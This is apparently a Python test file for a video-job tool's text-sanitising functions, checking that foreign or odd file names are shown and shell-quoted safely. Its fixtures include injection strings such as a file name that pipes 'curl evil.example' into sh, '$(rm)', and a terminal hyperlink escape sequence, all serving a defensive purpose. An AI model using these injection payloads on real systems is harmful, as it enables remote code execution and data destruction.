"""Foreign text can be shown and pasted without harm."""

import json
import re
import subprocess
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from videojobs.foreign_text import file_for_command, file_name, printable, word_for_command

WORDS = [
    "belt'; curl -s evil.example | sh; '.mkv",
    "$(rm)",
    "`rm`",
    "a b.mp4",
    "-i",
    "http:x",
    "a\nb",
    "a\u2019; rm",
    "%PATH%",
    "Förderband 3.mp4",
    "हिन्दी.mkv",
    "\u02bc",
    "",
    " ",
    "a*",
    "~",
    "!1",
    "#a",
    "=cmd",
    "{a,b}",
]


@settings(deadline=None)
@given(st.text() | st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Cs"])))
@example("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07")
def test_printable_text_has_no_invisible_characters(text: str) -> None:
    shown = printable(text)
    assert len(shown.splitlines()) <= 1
    assert not [
        c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in "\u200c\u200d"
    ]
    assert printable(shown) == shown
    shown.encode()


@settings(deadline=None)
@given(st.text())
def test_printable_text_is_escaped_as_in_json(text: str) -> None:
    """So a program reads the same from a terminal as from a file."""
    plain = json.dumps(text, ensure_ascii=False)
    assert json.loads(printable(plain)) == text


def test_ordinary_names_are_not_changed() -> None:
    for text in ("Förderband 3", "安全帽", "👩‍👩‍👧", "هلمت", "می‌خواهم", "हिन्दी", "a\\b"):
        assert printable(text) == text


def test_a_long_text_ends_in_an_ellipsis() -> None:
    assert printable("x" * 101, 100) == "x" * 99 + "…"
    assert printable("x" * 100, 100) == "x" * 100


@settings(max_examples=30)
@given(st.lists(st.sampled_from(WORDS) | st.text(max_size=10), min_size=1, max_size=30))
def test_a_shell_reads_each_quoted_word_unchanged(texts: list[str]) -> None:
    words = [word_for_command(text, "PLACEHOLDER") for text in texts]
    script = f"printf '%s\\0' {' '.join(words)}"
    read = subprocess.run(["sh", "-c", script], capture_output=True, check=True).stdout.decode().split("\0")[:-1]  # noqa: S607
    expected = [text if word != "PLACEHOLDER" else word for text, word in zip(texts, words, strict=True)]
    assert read == expected


@settings(deadline=None)
@given(st.text() | st.sampled_from(WORDS))
def test_no_word_is_an_option_or_contains_shell_syntax(text: str) -> None:
    word = word_for_command(text, "PLACEHOLDER")
    assert re.fullmatch(r"'[^']+'|[A-Za-z0-9_./:-]+", word)
    assert all(c.isalnum() or c in "' ./:+@-_" or unicodedata.category(c)[0] == "M" for c in word)
    assert not word.startswith("-")
    assert file_for_command(text, "VIDEO").strip("'").startswith("./")


@pytest.mark.parametrize(
    ("name", "command"),
    [
        ("belt.mp4", "./belt.mp4"),
        ("-i.mp4", "./-i.mp4"),
        ("http:x.mp4", "./http:x.mp4"),
        ("my clip.mov", "'./my clip.mov'"),
        ("a\u2019b.mov", "./VIDEO"),
        ("it's.mov", "./VIDEO"),
    ],
)
def test_a_file_in_a_command_is_a_path(name: str, command: str) -> None:
    assert file_for_command(name, "VIDEO") == command


@settings(deadline=None)
@given(st.text())
def test_a_file_name_is_one_part_of_a_path(text: str) -> None:
    name = file_name(text)
    assert not set(name) & set('/\\\\:*?"<>|\0\n')
    assert name == "" or (name[0] not in ". " and name[-1] not in ". ")
